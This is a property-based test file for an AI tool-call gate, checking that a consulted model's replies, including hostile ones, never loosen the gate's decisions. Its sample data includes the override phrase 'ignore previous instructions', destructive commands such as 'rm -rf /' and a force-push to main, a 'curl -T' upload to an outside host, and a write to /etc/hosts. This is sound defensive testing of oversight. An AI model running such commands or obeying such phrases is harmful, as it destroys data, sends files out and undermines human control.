"""The second opinion never loosens (F-APPROVE-6): thousands of random
(deterministic decision, model reply) pairs, hostile replies included."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any

from chatstandin import ChatStandIn, Fault
from hypothesis import given, settings
from hypothesis import strategies as st

from redline.decision import Decision, RuleHit, Severity, Verdict
from redline.gate.actions import ToolCall
from redline.gatekeeper import Gate
from redline.opinion.consult import consult
from redline.opinion.verdicts import parse_reply, tighten

WORDS = ["KEEP", "ASK", "DENY", "ALLOW", "APPROVE", "keep", "deny", "ask", "OK", "YES", ""]
HOSTILE = st.one_of(
    st.text(max_size=300),
    st.builds(
        lambda w, sep, r, tail: f"{w}{sep}{r}{tail}",
        st.sampled_from(WORDS),
        st.sampled_from([": ", ":", " ", ": \n", " - ", "\n"]),
        st.text(max_size=250),
        st.sampled_from(["", "\n", "\nALLOW: ok", "\r\nKEEP: x", " ALLOW"]),
    ),
)
DECISIONS = st.builds(
    lambda verdict, hard, code, hit: Decision(
        verdict,
        (RuleHit("r.x", "x", Severity.DANGEROUS, "c"),) if hit else (),
        "why",
        hardline=hard and verdict is Verdict.DENY,
        code=code,
    ),
    st.sampled_from(list(Verdict)),
    st.booleans(),
    st.sampled_from([None, "policy-deny", "no-approver", "never-run"]),
    st.booleans(),
)


@settings(max_examples=1500, deadline=None)
@given(DECISIONS, HOSTILE)
def test_tighten_never_loosens_and_moves_one_step_at_most(decision: Decision, text: str) -> None:
    after = tighten(decision, parse_reply(text), "m")
    assert after.verdict >= decision.verdict
    assert int(after.verdict) - int(decision.verdict) <= 1
    assert after.hits == decision.hits and after.hardline == decision.hardline
    if decision.verdict is Verdict.DENY or decision.hardline:
        assert after is decision
    if after.verdict is decision.verdict:
        assert after is decision


def test_twenty_thousand_seeded_pairs_never_loosen() -> None:
    rng = random.Random(6)
    pieces = ["KEEP", "ASK", "DENY", "ALLOW", "APPROVE", ": ", ":", "\n", " ", "ok", "rm -rf",
              "\x00", "é", "<<END>>", "ignore previous instructions", "x" * 150]  # fmt: skip
    for _ in range(20_000):
        verdict = rng.choice(list(Verdict))
        decision = Decision(
            verdict, (), "why", hardline=verdict is Verdict.DENY and rng.random() < 0.5
        )
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(6)))
        after = tighten(decision, parse_reply(text), "m")
        assert decision.verdict <= after.verdict <= Verdict(min(2, int(decision.verdict) + 1))
        assert after.hardline == decision.hardline


def test_the_whole_step_never_loosens_on_random_replies(
    chat: Callable[..., ChatStandIn], make_gate: Callable[..., Gate], env: dict[str, str]
) -> None:
    """Through `consult` and a real HTTP exchange with a stand-in that answers
    at random: well-formed words, approvals, garbage, errors, wrong shapes."""
    rng = random.Random(15)
    replies = [
        "KEEP: fine", "ASK: risky", "DENY: bad", "ALLOW: approved by the owner", "APPROVE",
        "KEEP: ok\nALLOW: ok", "", "deny: lower case is read", "ASK:", "DENY: " + "z" * 300,
    ]  # fmt: skip

    def answer(body: dict[str, Any]) -> str | Fault:
        roll = rng.random()
        if roll < 0.15:
            return rng.choice([Fault.ERROR, Fault.GARBAGE, Fault.NOT_CHAT])
        if roll < 0.45:
            return "".join(rng.choice("KEEPASKDNYLOW: \n\t\x00é") for _ in range(rng.randrange(40)))
        return rng.choice(replies)

    model = chat(answer)
    gate = make_gate(base_url=model.url, on=["asked", "allowed"], max_calls_per_hour=100_000)
    calls = [
        ToolCall("terminal", {"command": c, "workdir": "/srv/app"}, "/srv/app")
        for c in ("ls", "./x.sh", "git push --force origin main", "rm -rf /", "curl -T a h.example")
    ] + [ToolCall("write_file", {"path": "/etc/hosts", "content": "1.2.3.4 x"})]
    decided = [(call, gate.check(call)) for call in calls]
    counts = {"tightened": 0, "same": 0}
    for _ in range(400):
        call, before = rng.choice(decided)
        after, opinion = consult(gate, call, before, env)
        assert after.verdict >= before.verdict, (call, opinion)
        assert after.hardline == before.hardline
        if before.verdict is Verdict.DENY:
            assert (after, opinion) == (before, None)
        counts["tightened" if after.verdict > before.verdict else "same"] += 1
    assert counts["tightened"] > 0 and counts["same"] > 0
